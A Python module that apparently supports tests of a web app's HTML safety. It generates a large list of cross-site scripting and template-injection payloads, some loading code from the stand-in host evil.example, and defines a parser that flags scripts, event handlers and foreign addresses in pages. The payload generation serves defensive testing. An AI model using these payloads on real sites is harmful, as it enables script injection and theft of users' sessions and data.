"""Text that wants to become markup: own payloads, made of what elements, handlers, addresses and disguises there are."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

_DEED: Final = "alert(1)"
_HANDLERS: Final = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onstart", "onpageshow", "onsubmit", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_BEARERS: Final = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<input autofocus {}>", "<details open {}>", "<video src=x {}></video>",
    "<a href=# {}>x</a>", "<marquee {}>x</marquee>", "<b {}>x</b>", "<sup {}>x</sup>",
)  # fmt: skip
_ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "//evil.example/x.js", "jav&#x0A;ascript:alert(1)",
)  # fmt: skip
_PLACES: Final = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<link rel=stylesheet href="{}">',
)  # fmt: skip
_WHOLE: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' onclick=alert(1) x='",
    "` onmouseover=alert(1) `", "\"/onload=alert(1)//", "<<script>alert(1);//<</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞", "<style>@import'//evil.example/x.css'</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<base href=//evil.example/>", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id=x>#x\"/></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<table background=javascript:alert(1)>", "<div style=\"width:expression(alert(1))\">", "<div style=background:url(//evil.example)>",
    "<isindex type=image src=1 onerror=alert(1)>", "<frameset onload=alert(1)>", "<dialog open onclose=alert(1)>",
    "{{7*7}}", "{{ config.items() }}", "{% raw %}{{ 1 }}{% endraw %}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "<img src=x hx-on:load=alert(1)>", "<div hx-get=/sign-out hx-trigger=load>", "<div data-hx-post=/sign-out hx-trigger=load>x</div>",
    "<b hx-vals='js:{x:alert(1)}'>x</b>", "<p data-copy data-confirm=x>x</p>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e", "<img/src/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>",
    "<a href=\"javascript:alert(1)\"><b>x</b></a>", "<sup><script>alert(1)</script></sup>", "<i><b onclick=alert(1)></i></b>",
    "<b><i><sub><sup><u>", "</b></i></p></div></main></body></html>", "<!DOCTYPE html><html><body onload=alert(1)>", "<?xml version=\"1.0\"?><x/>",
    "[x](javascript:alert(1))", "\u202e<script>alert(1)</script>", "\u2066<b>\u2069", "=HYPERLINK(\"//evil.example\")", "@import url(//evil.example)",
)  # fmt: skip


def payloads() -> list[str]:
    """Return every payload, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    yield from _WHOLE
    for number, handler in enumerate(_HANDLERS):
        for step in range(5):
            bearer = _BEARERS[(number + 2 * step) % len(_BEARERS)]
            value = (_DEED, f'"{_DEED}"', f"'{_DEED}'", "&#97;lert(1)", "alert`1`")[step]
            yield bearer.format(f"{handler}={value}")
    for number, address in enumerate(_ADDRESSES):
        for step in range(5):
            yield _PLACES[(number + step) % len(_PLACES)].format(address)


_OURS: Final = """
    html head meta title link script body header main footer nav aside section article div span p h1 h2 h3 h4 a b i em u strong
    sub sup q cite bdi code pre kbd mark small br hr ul ol li dl dt dd table caption thead tbody tr th td figure svg path circle
    rect line polyline form label input button select option optgroup textarea fieldset legend details summary dialog time style
    abbr blockquote wbr img center output datalist progress meter
"""
_TAGS: Final = frozenset(_OURS.split())
_ADDRESSED: Final = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite"}
)


class Inert(HTMLParser):
    """Reads a page as a browser does and gathers what could run, load or leave; `text` is what people see."""

    def __init__(self, hosts: frozenset[str], *, letter: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.words: list[str] = []
        self.heading = ""
        self._hosts = hosts
        self._letter = letter
        self._in: list[str] = []

    @property
    def text(self) -> str:
        return " ".join("".join(self.words).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS or (tag in ("style", "img") and not self._letter):
            self.wrong.append(f"<{tag}>")
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.wrong.append(f"script {values}")
        if tag == "meta" and "http-equiv" in values and not self._letter:
            self.wrong.append(f"meta {values}")
        for name, value in attrs:
            if (
                name.startswith("on")
                or (name == "style" and not self._letter)
                or name in ("srcdoc", "hx-on", "hx-vals")
            ):
                self.wrong.append(f"{tag} {name}={value}")
            if name.startswith(("hx-on", "data-hx-", "hx-trigger")) and "load" in (value or ""):
                self.wrong.append(f"{tag} {name}={value}")
            if name in _ADDRESSED:
                self._address(tag, name, value or "")
        if tag in ("script", "style", "title", "h1"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if "script" in self._in and data.strip():
            self.wrong.append(f"script text {data[:60]!r}")
        elif "style" not in self._in:
            self.words.append(data)
            if "h1" in self._in:
                self.heading += data

    def handle_comment(self, data: str) -> None:
        if not self._letter:
            self.wrong.append(f"comment {data[:60]!r}")

    def _address(self, tag: str, name: str, value: str) -> None:
        parts = urlsplit(value.strip())
        if parts.scheme not in ("", "http", "https", "mailto") or (parts.netloc and parts.hostname not in self._hosts):
            self.wrong.append(f"{tag} {name}={value[:80]}")


def inert(page: str, hosts: frozenset[str], *, letter: bool = False) -> Inert:
    """Read a page whole."""
    found = Inert(hosts, letter=letter)
    found.feed(page)
    found.close()
    return found
